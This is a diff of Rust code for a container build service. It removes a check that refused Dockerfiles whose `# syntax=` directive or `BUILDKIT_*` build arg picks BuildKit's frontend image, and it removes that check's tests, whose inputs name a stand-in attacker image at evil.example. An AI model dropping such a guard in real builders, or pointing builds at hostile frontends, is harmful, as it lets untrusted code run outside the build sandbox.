@@ -389,43 +389,6 @@ fn query_value(value: &str) -> String {
         .collect()
 }
 
-/// Why a job may not build in an engine as submitted, if it chooses
-/// BuildKit's frontend: a `# syntax=` parser directive or a `BUILDKIT_*`
-/// build arg (`BUILDKIT_SYNTAX`) makes BuildKit pull an image of the
-/// job's choosing, from any address the engine reaches, and run it as the
-/// build's frontend — code outside the `RUN` steps' sandbox.
-pub fn chosen_frontend(dockerfile: &str, build_args: &BTreeMap<String, String>) -> Option<String> {
-    if let Some(name) = build_args.keys().find(|n| n.starts_with("BUILDKIT_")) {
-        return Some(format!(
-            "build arg {name}: BUILDKIT_* build args are reserved; BuildKit would read them as its own options"
-        ));
-    }
-    // Parser directives: `# key=value` lines at the very top, up to the
-    // first line that is not one (BuildKit's rule).
-    let text = dockerfile.trim_start_matches('\u{feff}');
-    for line in text.lines() {
-        let Some((key, _)) = line
-            .trim()
-            .strip_prefix('#')
-            .and_then(|rest| rest.split_once('='))
-        else {
-            break;
-        };
-        let key = key.trim();
-        if key.is_empty() || !key.bytes().all(|b| b.is_ascii_alphanumeric()) {
-            break;
-        }
-        if key.eq_ignore_ascii_case("syntax") {
-            return Some(
-                "the Dockerfile's `# syntax=` directive chooses BuildKit's frontend image, which \
-                 this builder does not allow; remove it (the built-in Dockerfile frontend is used)"
-                    .into(),
-            );
-        }
-    }
-    None
-}
-
 /// The tag a BuildKit builder gives `platform`'s image (`linux-arm64`,
 /// `linux-arm-v7`), as `helix-builder-kit` does.
 pub fn platform_tag(platform: &Platform) -> String {
@@ -447,30 +410,6 @@ mod tests {
         ] {
             assert!(DockerEngine::check_socket(bad).is_err(), "{bad}");
         }
-    }
-
-    #[test]
-    fn a_job_choosing_buildkits_frontend_is_refused() {
-        let none = BTreeMap::new();
-        for dockerfile in [
-            "# syntax=docker/dockerfile:1\nFROM scratch\n",
-            "\u{feff}#  SYNTAX = evil.example/frontend\nFROM scratch\n",
-            "# escape=`\n# syntax=evil.example/frontend\nFROM scratch\n",
-        ] {
-            let why = chosen_frontend(dockerfile, &none).expect(dockerfile);
-            assert!(why.contains("# syntax="), "{why}");
-        }
-        // Past the directives, `# syntax=` is a comment BuildKit ignores.
-        for dockerfile in [
-            "FROM scratch\n# syntax=evil.example/frontend\n",
-            "# a comment\n# syntax=evil.example/frontend\nFROM scratch\n",
-            "\n# syntax=evil.example/frontend\nFROM scratch\n",
-        ] {
-            assert_eq!(chosen_frontend(dockerfile, &none), None, "{dockerfile}");
-        }
-        let args = BTreeMap::from([("BUILDKIT_SYNTAX".to_string(), "evil.example/fe".to_string())]);
-        let why = chosen_frontend("FROM scratch\n", &args).unwrap();
-        assert!(why.contains("BUILDKIT_SYNTAX"), "{why}");
     }
 
     #[test]
